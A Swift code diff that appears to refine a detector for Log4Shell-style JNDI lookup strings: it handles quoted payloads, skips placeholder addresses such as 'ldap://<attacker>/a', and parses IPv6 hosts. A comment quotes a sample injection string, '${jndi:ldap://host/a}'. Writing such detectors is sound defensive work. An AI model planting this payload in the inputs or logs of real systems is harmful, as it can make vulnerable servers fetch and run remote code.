@@ -28,7 +28,10 @@ struct JNDIReference {
       byte == 0x22 || byte < 0x20
         || text.isOpen && (byte == 0x20 || byte == 0x27 || byte == 0x3C || byte == 0x3E || byte == 0x60)
     }
-    let name = Array(content[..<(end ?? content.endIndex)])
+    var name = Array(content[..<(end ?? content.endIndex)])
+    // `{'ua':'${jndi:ldap://host/a'}`: the quote and the brace close what is around the payload.
+    if !text.isOpen, name.last == 0x27, name.firstIndex(of: 0x27) == name.count - 1 { name.removeLast() }
+    if !text.isObfuscated, !text.isEncoded, Self.isPlaceholder(name) { return nil }
     self.init(
       name: name, isCut: text.isOpen && text.isAtEnd && end == nil, isObfuscated: text.isObfuscated || text.isEncoded)
   }
@@ -42,6 +45,16 @@ struct JNDIReference {
     var end = 0
     while end < rest.count, end < 2048, rest[end] > 0x20, !isAny(rest[end], of: "}\"'<>`") { end += 1 }
     self.init(name: scheme + rest.slice(0, end).array, isCut: false, isObfuscated: true)
+  }
+
+  /// `ldap://<attacker>/a`, `[protocol]://[host]/`: how a payload is made, in words about it. Nothing can be fetched from there.
+  private static func isPlaceholder(_ name: [UInt8]) -> Bool {
+    guard let slashes = doubleSlash(in: name, from: 0), slashes + 3 < name.count else { return false }
+    let first = name[slashes + 2]
+    // Square brackets are an address's too: they count where the protocol stands in them as well.
+    guard first == 0x3C || first == 0x5B && name.first == 0x5B else { return false }
+    let inner = name[(slashes + 3)...].prefix { isWordByte($0) || isAny($0, of: " -.") }
+    return !inner.isEmpty && inner.endIndex < name.count && name[inner.endIndex] == (first == 0x3C ? 0x3E : 0x5D)
   }
 
   private static func defaultMark(in content: ArraySlice<UInt8>) -> Int? {
@@ -64,8 +77,8 @@ struct JNDIReference {
       scheme = text
       place = colon + 1
     } else if colon == nil, isCut {
-      // Cut within the scheme: as much of one as there is must fit.
-      if text.isEmpty ? !isObfuscated : !Self.schemes.contains(where: { $0.hasPrefix(text) }) { return nil }
+      // Cut within the scheme or before it: as much of one as there is must fit.
+      if !text.isEmpty, !Self.schemes.contains(where: { $0.hasPrefix(text) }) { return nil }
       return
     } else {
       // An unknown or unresolvable scheme counts where an authority follows.
@@ -123,7 +136,11 @@ struct JNDIReference {
       end += 1
     }
     var hostEnd = end
-    if let colon {
+    // IPv6 without brackets has no port: its last group would be one.
+    let authority = name[start..<max(end, start)]
+    let isIPv6 =
+      authority.count { $0 == 0x3A } >= 2 && authority.allSatisfy { hexDigit($0) != nil || $0 == 0x3A || $0 == 0x2E }
+    if let colon, !isIPv6 {
       let digits = name[colon + 1..<end]
       let number =
         digits.isEmpty
